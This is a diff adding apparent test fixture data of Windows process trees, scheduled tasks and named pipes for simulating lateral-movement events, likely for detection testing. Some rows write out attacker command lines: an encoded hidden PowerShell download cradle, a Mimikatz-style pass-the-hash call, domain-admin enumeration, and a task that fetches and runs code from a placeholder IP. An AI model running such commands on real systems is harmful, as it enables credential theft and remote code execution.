@@ -93,3 +93,76 @@ SUDO_CMDS = (
     "/usr/bin/tail -n 200 /var/log/syslog",
     "/usr/sbin/service postgresql reload",
 )
+# Processes of remote execution, as (image, parent, command line): what the ``process_session``
+# and ``process_in_session`` templates write. Attacks and management tools pick rows by index.
+_SYS32 = "C:\\Windows\\System32\\"
+_WMIPRVSE = _SYS32 + "wbem\\WmiPrvSE.exe"
+_DCOMLAUNCH = _SYS32 + "svchost.exe"
+TREES = (
+    (
+        _SYS32 + "cmd.exe",
+        _WMIPRVSE,
+        "cmd.exe /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1715003921.57 2>&1",
+    ),
+    (
+        _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
+        _WMIPRVSE,
+        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+    ),
+    (_SYS32 + "cmd.exe", _WMIPRVSE, "cmd.exe /c C:\\Windows\\CCM\\CcmEval.exe /collect"),
+    (_SYS32 + "mmc.exe", _DCOMLAUNCH, "C:\\Windows\\system32\\mmc.exe -Embedding"),
+    (
+        _SYS32 + "cmd.exe",
+        _SYS32 + "mmc.exe",
+        "cmd.exe /c net localgroup administrators > C:\\Windows\\Temp\\o.txt",
+    ),
+    (_SYS32 + "wsmprovhost.exe", _DCOMLAUNCH, "C:\\Windows\\system32\\wsmprovhost.exe -Embedding"),
+    (_SYS32 + "whoami.exe", _SYS32 + "wsmprovhost.exe", '"C:\\Windows\\system32\\whoami.exe" /groups'),
+    (
+        _SYS32 + "net.exe",
+        _SYS32 + "wsmprovhost.exe",
+        '"C:\\Windows\\system32\\net.exe" group "domain admins" /domain',
+    ),
+    (_SYS32 + "cmd.exe", "C:\\Users\\Public\\Music\\sync.exe", "cmd.exe"),
+    (_SYS32 + "cmd.exe", _SYS32 + "lsass.exe", "C:\\Windows\\system32\\cmd.exe"),
+    ("C:\\Users\\Public\\Music\\sync.exe", _SYS32 + "cmd.exe", "sync.exe privilege::debug sekurlsa::pth"),
+    (
+        _SYS32 + "cmd.exe",
+        _SYS32 + "taskeng.exe",
+        "cmd.exe /c copy \\\\FS01\\tools\\x.exe C:\\Windows\\Temp\\",
+    ),
+)
+TR_WMIEXEC, TR_WMI_PS, TR_SCCM_EVAL, TR_MMC, TR_MMC_CHILD, TR_WSMPROV, TR_WSM_WHOAMI, TR_WSM_NET = range(8)
+TR_PTH_CHILD, TR_LSASS_CHILD, TR_PTH_TOOL = 8, 9, 10
+TASKS = (  # 4698/4699: name, action
+    ("\\PatchAgent\\Install", '"C:\\Program Files\\PatchAgent\\agent.exe" /install /quiet'),
+    (
+        "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager",
+        "cmd.exe /c C:\\Users\\Public\\upd.bat",
+    ),
+    ("\\qTzYrWkB", "cmd.exe /C whoami > C:\\Windows\\Temp\\qTzYrWkB.tmp 2>&1"),
+    ("\\GoogleUpdateTaskMachineCore", "powershell.exe -w hidden -c iex(iwr http://198.51.100.8/a)"),
+)
+TK_DEPLOY, TK_MASQUERADE, TK_ATEXEC, TK_LOOKALIKE = range(4)
+PIPES = (
+    "spoolss",
+    "efsrpc",
+    "lsarpc",
+    "netlogon",
+    "samr",
+    "winreg",
+    "protected_storage",
+    "svcctl",
+    "srvsvc",
+    "atsvc",
+)
+PI_SPOOLSS, PI_EFSRPC, PI_LSARPC, PI_NETLOGON, PI_SAMR, PI_WINREG, PI_PROTECTED, PI_SVCCTL, PI_SRVSVC = range(
+    9
+)
+PI_ATSVC = 9
+LOGON_PROCS = (  # a program that calls LsaLogonUser itself: logon process name, the program
+    ("KioskLgn", "C:\\Program Files\\KioskPro\\kiosk.exe"),
+    ("chrome", "C:\\Users\\Public\\Downloads\\chromepass.exe"),
+    ("LogonUI2", "C:\\ProgramData\\svc\\lu.exe"),
+)
+LP_KIOSK, LP_CHROME, LP_ODD = range(3)
